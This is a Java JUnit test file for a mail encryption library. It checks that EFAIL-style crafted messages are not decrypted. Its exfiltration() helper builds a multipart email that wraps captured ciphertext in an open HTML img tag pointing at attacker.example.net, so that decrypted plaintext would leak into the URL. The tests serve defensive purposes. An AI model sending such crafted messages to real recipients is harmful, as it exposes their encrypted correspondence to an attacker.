package org.mailseal.crypto;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.mailseal.crypto.testing.Messages;
import org.mailseal.crypto.testing.PgpMime;
import org.mailseal.crypto.testing.TestUser;

/**
 * EFAIL direct exfiltration: an attacker wraps a captured ciphertext between two parts of his own (an HTML image
 * tag left open before it and closed after it), hoping that the decrypted text lands in the image URL. Only a
 * top-level encrypted message is ever decrypted (DESIGN.md invariant 2); anything else is
 * {@link NotEncryptedException} and passes through untouched, still encrypted.
 */
class EfailStructureTest {
    private static final String BOB = "bob@example.org";

    @TempDir
    static Path dir;
    static TestUser bob;

    @BeforeAll
    static void keys() throws Exception {
        bob = TestUser.create(dir, BOB, Format.PGP_MIME, Format.SMIME);
    }

    private static byte[] encrypt(Format format) throws Exception {
        return bob.encrypt(Messages.simple("Secret", "The secret text.\r\n"), format);
    }

    /** The captured ciphertext as the middle part of a multipart/mixed, with its own content header fields. */
    private static byte[] exfiltration(byte[] captured) {
        String capturedText = new String(captured, StandardCharsets.US_ASCII);
        String contentFields = capturedText.substring(capturedText.indexOf("Content-Type:"));
        return ("From: attacker@example.net\r\n"
                + "To: bob@example.org\r\n"
                + "Subject: Re: Secret\r\n"
                + "MIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=\"efail\"\r\n"
                + "\r\n"
                + "--efail\r\n"
                + "Content-Type: text/html\r\n"
                + "\r\n"
                + "<img src=\"http://attacker.example.net/?\r\n"
                + "--efail\r\n"
                + contentFields
                + "--efail\r\n"
                + "Content-Type: text/html\r\n"
                + "\r\n"
                + "\">\r\n"
                + "--efail--\r\n").getBytes(StandardCharsets.US_ASCII);
    }

    @ParameterizedTest
    @EnumSource(Format.class)
    void theCapturedCiphertextDecryptsAtTopLevel(Format format) throws Exception {
        try (DecryptionResult result = bob.decrypt(encrypt(format))) {
            assertThat(new String(result.message().toByteArray(), StandardCharsets.UTF_8)).endsWith("The secret text.\r\n");
        }
    }

    @ParameterizedTest
    @EnumSource(Format.class)
    void anEncryptedPartInTheMiddleOfAMultipartIsNotDecrypted(Format format) throws Exception {
        byte[] attack = exfiltration(encrypt(format));
        assertThat(PgpMime.parse(attack).parts()).extracting(PgpMime.Part::mimeType).containsExactly(
                "text/html", format == Format.PGP_MIME ? "multipart/encrypted" : "application/pkcs7-mime", "text/html");

        assertThatThrownBy(() -> bob.decrypt(attack))
                .isExactlyInstanceOf(NotEncryptedException.class)
                .hasMessage("not an encrypted message: top-level type is multipart/mixed");
    }

    @ParameterizedTest
    @EnumSource(Format.class)
    void anEncryptedMessageForwardedAsAnAttachmentIsNotDecrypted(Format format) throws Exception {
        byte[] captured = encrypt(format);
        String header = "From: attacker@example.net\r\nTo: bob@example.org\r\nSubject: Fwd\r\n"
                + "MIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n";
        byte[] attack = (header + new String(captured, StandardCharsets.US_ASCII)).getBytes(StandardCharsets.US_ASCII);

        assertThatThrownBy(() -> bob.decrypt(attack))
                .isExactlyInstanceOf(NotEncryptedException.class)
                .hasMessage("not an encrypted message: top-level type is message/rfc822");
    }

    @Test
    void inlinePgpInAPlainTextBodyIsNotDecrypted() throws Exception {
        byte[] armored = PgpMime.armoredMessage(encrypt(Format.PGP_MIME));
        byte[] inline = Messages.simple("Inline", new String(armored, StandardCharsets.US_ASCII).replace("\n", "\r\n"));

        assertThatThrownBy(() -> bob.decrypt(inline))
                .isExactlyInstanceOf(NotEncryptedException.class)
                .hasMessage("not an encrypted message: top-level type is text/plain");
    }
}
